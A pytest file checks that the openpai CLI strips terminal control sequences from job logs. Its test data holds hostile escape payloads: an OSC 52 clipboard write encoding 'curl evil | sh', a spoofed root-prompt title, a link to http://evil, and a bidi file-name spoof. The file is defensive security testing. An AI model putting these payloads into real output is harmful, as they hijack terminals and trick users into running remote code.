"""Orders to a terminal in what tasks write, and that none reaches the terminal of who reads it."""

from __future__ import annotations

import io
import json
import re

import pytest
from rich.console import Console

from openpai.cli import job_watch
from openpai.cli.plain_text import HELD_MAX, Plain, coloured_line, plain
from openpai.client.model import JobDetail
from tests.unit.cli.conftest import text_answer

LOGS = "/jobs/ann~train/attempts/0/taskRoles/worker/taskIndex/0/attempts/0/logs"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
ATTACKS = (
    CLIPBOARD,
    "\x9d52;c;Y3VybA==\x9c",
    "\x1b]0;root@login:~#\x07",
    "\x1b[21t",
    "\x9b2J\x9b6n",
    "\x1bP$q q\x1b\\",
    "\x1bc",
    "\x1b[" + "1;" * 400 + "m",
    "\x1b\x1b[0m[2J",
    "\x1b[\x1b[m2J",
    "\x1b[\x08" * 3,
    "safe\u202egnp.exe\u2066",
    "pass\x08\x08\x08\x08fail\x7f",
    "\x0e\x05\x00",
    "8;;http://evil\x1b",
    "\x1b]8;;http://evil\x1b\\here\x1b]8;;\x1b\\",
)
OBEYED = re.compile("[^\\S\n\t\r ]|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def hostile(platform):
    """Return a platform with a job whose only task wrote every attack."""
    tasks = [{"taskIndex": 0, "taskState": "SUCCEEDED", "attemptId": 0, "launchedTime": 1500}]
    status = {"username": "ann", "state": "SUCCEEDED", "attemptId": 0, "submissionTime": 1000}
    platform.on("GET", "/jobs/ann~train", {"name": "train", "jobStatus": status, "taskRoles": {"worker": {
        "taskStatuses": tasks}}})  # fmt: skip
    uri = f"/log-manager/pai.test:80/api/v2{LOGS}/all?ticket=t"
    platform.on("GET", LOGS, {"locations": [{"name": "all", "uri": uri}]})
    platform.on("GET", f"{LOGS}/all", "\n".join(ATTACKS))
    return platform


def write_in_pieces(platform, text: str, size: int) -> None:
    """Have the followed log arrive in pieces of so many characters."""
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    events = [json.dumps({"stream": "stdout", "offset": 0, "text": piece}) for piece in pieces]
    body = "".join(f"event: log\nid: 1\ndata: {data}\n\n" for data in events) + "event: end\ndata: {}\n\n"
    platform.answers["GET", f"/api/v2{LOGS}/all"] = [text_answer(body)]


@pytest.mark.parametrize("words", [(), ("--tail", "99"), ("--timestamps",), ("--all-tasks",), ("-a", "--timestamps")])
def test_no_order_reaches_the_terminal(pai, hostile, words):
    message = pai("job", "logs", "train", *words).out
    assert not OBEYED.search(message)
    assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in message
    assert "safe\\u202egnp.exe" in message


@pytest.mark.parametrize("size", [1, 2, 7, 10_000])
@pytest.mark.parametrize("words", [("-f",), ("-f", "--all-tasks")])
@pytest.mark.slow
def test_no_order_reaches_it_in_pieces(pai, hostile, words, size):
    write_in_pieces(hostile, "\n".join(ATTACKS), size)
    message = pai("job", "logs", "train", *words).out
    assert not OBEYED.search(message)
    assert "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07" in message


def test_json_gives_a_terminal_no_orders_and_loses_nothing(pai, hostile):
    message = pai("job", "logs", "train", "--json").out
    assert not OBEYED.search(message)
    assert json.loads(message)["text"] == "\n".join(ATTACKS)


@pytest.mark.parametrize("words", [(), ("-f",), ("--all-tasks",), ("-f", "-a")])
def test_raw_is_as_it_was_written(pai, hostile, words):
    if "-f" in words:
        write_in_pieces(hostile, "\n".join(ATTACKS), 5)
    message = pai("job", "logs", "train", "--raw", *words).out
    assert all(attack in message for attack in ATTACKS)


@pytest.mark.parametrize("is_terminal", [True, False])
def test_nor_does_one_in_a_job_that_is_watched(hostile, is_terminal, monkeypatch):
    job = JobDetail.read({"name": "train", "jobStatus": {"username": "ann", "state": "SUCCEEDED"}, "taskRoles": {}})
    found = [job_watch.WatchState(job, (), [attack], "worker-0", unfinished=attack) for attack in ATTACKS]
    monkeypatch.setattr(job_watch, "_states", lambda *_: iter(found))
    screen = io.StringIO()
    console = Console(file=screen, force_terminal=is_terminal, width=200, height=50, color_system=None)
    job_watch.watch(None, "train", console)
    # What Rich itself does to draw its view: it hides the cursor, and goes up and erases a line at a time.
    drawn = re.sub(r"\x1b\[(?:\?25[lh]|1A|2K)", "", screen.getvalue())
    assert not OBEYED.search(drawn)
    assert "52;c;Y3VybCBldmlsIHwgc2g=" in drawn


def test_a_line_cannot_write_over_the_name_or_the_time_in_front_of_it(pai, hostile):
    hostile.on("GET", f"{LOGS}/all", "2026-01-31T00:00:00.000Z real\rworker-9 | 2020-01-01T00:00:00.000Z fake\r\n")
    for words in (("-a",), ("-t",), ("-a", "-t")):
        assert "\r" not in pai("job", "logs", "train", *words).out
    assert pai("job", "logs", "train", "-t").out.startswith("2026-01-31T00:00:00.000Z worker-9")


def test_colours_and_moves_leave_nothing_behind_and_bars_stay():
    text = "\x1b[32mok\x1b[0m\x1b[K \x1b(B\x1b[?25l10%\r20%\r\n\té 日本 \u2028x"
    assert plain(text) == "ok 10%\r20%\r\n\té 日本 \u2028x"


@pytest.mark.parametrize("size", range(1, 9))
def test_a_colour_in_pieces_is_left_out_too(size):
    text = "a\x1b[38;5;196mred\x1b[0m b\x1b[1"
    stream = Plain()
    message = [stream.take(text[at : at + size]) for at in range(0, len(text), size)]
    assert "".join(message) + stream.finish() == "ared b\\x1b[1"


def test_what_never_becomes_a_sequence_is_not_kept_back():
    stream = Plain()
    message = "".join(stream.take("1" if at else "\x1b[") for at in range(10_000))
    assert len(message) >= 10_000 - HELD_MAX
    assert not OBEYED.search(message)


def test_the_live_view_keeps_colours():
    assert coloured_line(f"10%\r\x1b[31mred\x1b[0m{CLIPBOARD}\r") == (
        "\x1b[31mred\x1b[0m\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"
    )
